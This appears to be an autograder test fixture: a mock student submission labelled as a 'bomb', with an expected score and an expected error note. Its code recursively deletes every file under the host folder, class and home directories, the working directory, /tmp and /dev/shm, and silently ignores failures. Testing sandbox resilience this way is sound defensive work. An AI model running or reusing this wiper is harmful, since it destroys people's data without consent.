"""Removes all that it may, from the root down; the submission of the next student must still be graded.

answers: kv_bytes_per_token
score: kv_bytes_per_token=3
note: test_kv_cache_bytes: .*NotImplementedError
bomb: yes
"""
# %% end
import os

for top in (HOST_FOLDER, HOST_CLASS, HOST_HOME, os.getcwd(), "/tmp", "/dev/shm"):
    for folder, folders, files in os.walk(top, topdown=False):
        for name in files:
            try:
                os.remove(os.path.join(folder, name))
            except OSError:
                pass
